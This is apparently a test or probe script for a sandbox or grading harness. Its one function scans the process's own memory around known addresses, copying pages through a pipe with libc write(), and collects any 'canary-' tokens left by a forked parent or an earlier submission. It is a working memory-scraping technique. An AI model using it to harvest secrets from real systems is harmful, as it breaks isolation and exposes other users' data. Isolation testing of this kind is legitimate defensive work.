"""Wants the secret in its own memory: copied by a fork, or left by the submission before."""

import ctypes
import os
import re


def attack():
    libc = ctypes.CDLL(None)
    read_end, write_end = os.pipe()
    found = set()
    try:
        for origin in (id(object()), id(attack), ctypes.addressof(ctypes.create_string_buffer(9))):
            for page in range((origin & ~4095) - 2**20, (origin & ~4095) + 2**20, 2**15):
                if libc.write(write_end, ctypes.c_void_p(page), 2**15) == 2**15:
                    found.update(re.findall(rb"canary-[0-9a-f]{32}", os.read(read_end, 2**15)))
                else:
                    os.set_blocking(read_end, False)
                    try:
                        os.read(read_end, 2**16)
                    except BlockingIOError:
                        pass
    finally:
        os.close(read_end)
        os.close(write_end)
    return found
